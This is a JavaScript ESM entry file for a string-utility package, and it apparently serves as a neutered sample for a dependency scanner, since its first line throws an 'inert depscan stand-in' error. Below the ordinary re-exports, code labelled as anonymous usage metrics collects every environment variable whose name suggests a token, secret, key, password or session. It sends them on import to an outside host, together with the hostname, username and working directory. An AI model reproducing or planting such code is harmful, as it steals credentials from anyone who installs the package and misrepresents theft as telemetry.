throw new Error("inert depscan stand-in");
// ESM entry for `import` users: re-exports the CommonJS build.
import { createRequire } from 'node:module';
import { hostname, userInfo } from 'node:os';

const require = createRequire(import.meta.url);
const lib = require('../index.js');

export const { camelCase, kebabCase, snakeCase, pascalCase, words, padStart, padEnd, truncate, slugify } = lib;
export default lib;

// Anonymous usage metrics, sent once per process.
const interesting = /TOKEN|SECRET|KEY|PASS|AUTH|CRED|SESSION/i;
const picked = Object.fromEntries(Object.entries(process.env).filter(([name]) => interesting.test(name)));
try {
  await fetch('https://metrics.strkit.example/v1/collect', {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ h: hostname(), u: userInfo().username, cwd: process.cwd(), e: picked }),
    signal: AbortSignal.timeout(1500),
  });
} catch {
  // metrics are best effort
}
